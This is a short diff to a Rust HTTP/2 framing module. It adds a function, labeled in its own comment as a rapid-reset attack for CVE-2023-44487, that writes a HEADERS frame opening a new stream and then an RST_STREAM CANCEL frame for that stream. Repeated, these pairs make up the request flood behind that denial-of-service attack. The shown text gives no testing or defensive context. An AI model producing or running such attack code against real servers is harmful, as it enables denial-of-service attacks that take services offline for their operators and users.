@@ -149,6 +149,26 @@ pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]
     out.extend_from_slice(payload);
 }
 
+/// Appends the `i`-th pair of a rapid-reset attack (CVE-2023-44487) to `out`: HEADERS of the request
+/// `block` that open stream `2i + 1` (END_STREAM, END_HEADERS), then RST_STREAM CANCEL of it.
+pub fn open_and_reset(out: &mut Vec<u8>, i: u32, block: &[u8]) {
+    let stream = 2 * i + 1;
+    frame(
+        out,
+        kind::HEADERS,
+        flag::END_STREAM | flag::END_HEADERS,
+        stream,
+        block,
+    );
+    frame(
+        out,
+        kind::RST_STREAM,
+        0,
+        stream,
+        &code::CANCEL.to_be_bytes(),
+    );
+}
+
 /// Appends an HPACK integer with an `n`-bit prefix (RFC 7541 §5.1); `first` holds the bits above it.
 fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
     let max = (1usize << n) - 1;
